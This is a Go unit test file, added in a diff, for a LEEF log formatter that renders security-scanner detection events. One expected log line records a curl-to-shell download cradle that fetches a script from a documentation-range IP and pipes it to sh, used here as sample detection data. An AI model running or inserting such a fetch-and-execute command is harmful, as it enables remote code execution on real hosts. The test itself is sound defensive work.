@@ -0,0 +1,60 @@
+package cef
+
+import (
+	"testing"
+
+	"github.com/NextronSystems/jsonlog/jsonpointer"
+	thorlog "github.com/NextronSystems/jsonlog/thorlog/v3"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestLEEFFormatter_Format(t *testing.T) {
+	tests := []struct {
+		name       string
+		formatter  LEEFFormatter
+		assessment *thorlog.Assessment
+		want       string
+	}{
+		{
+			name:       "file",
+			formatter:  LEEFFormatter{ProductVersion: "11.0.0"},
+			assessment: parseAssessment(t, dropperFile),
+			want:       "LEEF:2.0|Nextron|THOR|11.0.0|a0c3e5f7-2b4d-4e6f-8a1c-3e5f7a9b1d2f|x09|devTime=Dec 02 2024 14:27:03.000 +0000\tdevTimeFormat=MMM dd yyyy HH:mm:ss.SSS Z\tsev=8\tcat=Filescan\tidentHostName=fs-legal-01\tscanId=S-Zt1gA5mQ3h\teventId=b7e2c914d0a6\tscore=85\tmsg=Malicious file found\tfilePath=D:\\Shares\\Legal\\Incoming\\contract_v=2.pdf.exe\tfileName=contract_v=2.pdf.exe\tfileSize=733184\tmd5=0e4f1b7a9c2d5e8f3a6b9c1d4e7f0a2b\tsha1=5d8e1f4a7b0c3d6e9f2a5b8c1d4e7f0a3b6c9d2e\tsha256=3c6f9a2d5e8b1c4f7a0d3e6b9c2f5a8d1e4b7c0f3a6d9e2b5c8f1a4d7e0b3c6f",
+		},
+		{
+			name:       "process",
+			assessment: parseAssessment(t, downloadCradle),
+			want:       "LEEF:2.0|Nextron|THOR||Curl \\| Shell Download Cradle|x09|sev=6\tcat=ProcessCheck\tidentHostName=web-02\tscore=60\tmsg=Suspicious process found\tfilePath=/usr/bin/bash\tfileName=bash\tpid=18734\tprocessName=bash\tcommandLine=bash -c curl -fsSL --max-time=10 http://198.51.100.23/i.sh | sh rm -f /tmp/.i",
+		},
+		{
+			name:       "custom delimiter",
+			formatter:  LEEFFormatter{Delimiter: '^'},
+			assessment: thorlog.NewAssessment(thorlog.NewFile("/tmp/a^b"), "Info"),
+			want:       "LEEF:2.0|Nextron|THOR|||^|sev=1^score=0^msg=Info^filePath=/tmp/a b^fileName=a b",
+		},
+		{
+			name:       "delimiter in value",
+			assessment: thorlog.NewAssessment(thorlog.NewFile("/tmp/a\tb"), "Info\tfound"),
+			want:       "LEEF:2.0|Nextron|THOR|||x09|sev=1\tscore=0\tmsg=Info found\tfilePath=/tmp/a b\tfileName=a b",
+		},
+		{
+			name:       "space delimiter",
+			formatter:  LEEFFormatter{Delimiter: ' '},
+			assessment: thorlog.NewAssessment(thorlog.NewFile("/tmp/a b"), "Info found"),
+			want:       "LEEF:2.0|Nextron|THOR||| |sev=1 score=0 msg=Info_found filePath=/tmp/a_b fileName=a_b",
+		},
+		{
+			name: "mappings",
+			formatter: LEEFFormatter{Mappings: []FieldMapping{
+				{Key: "reason", Pointer: jsonpointer.New("reasons", "0", "summary")},
+			}},
+			assessment: parseAssessment(t, dropperFile),
+			want:       "LEEF:2.0|Nextron|THOR||a0c3e5f7-2b4d-4e6f-8a1c-3e5f7a9b1d2f|x09|devTime=Dec 02 2024 14:27:03.000 +0000\tdevTimeFormat=MMM dd yyyy HH:mm:ss.SSS Z\tsev=8\tcat=Filescan\tidentHostName=fs-legal-01\tscanId=S-Zt1gA5mQ3h\teventId=b7e2c914d0a6\tscore=85\tmsg=Malicious file found\tfilePath=D:\\Shares\\Legal\\Incoming\\contract_v=2.pdf.exe\tfileName=contract_v=2.pdf.exe\tfileSize=733184\tmd5=0e4f1b7a9c2d5e8f3a6b9c1d4e7f0a2b\tsha1=5d8e1f4a7b0c3d6e9f2a5b8c1d4e7f0a3b6c9d2e\tsha256=3c6f9a2d5e8b1c4f7a0d3e6b9c2f5a8d1e4b7c0f3a6d9e2b5c8f1a4d7e0b3c6f\treason=YARA rule MAL_Double_Extension_Dropper",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			assert.Equal(t, tt.want, tt.formatter.Format(tt.assessment))
+		})
+	}
+}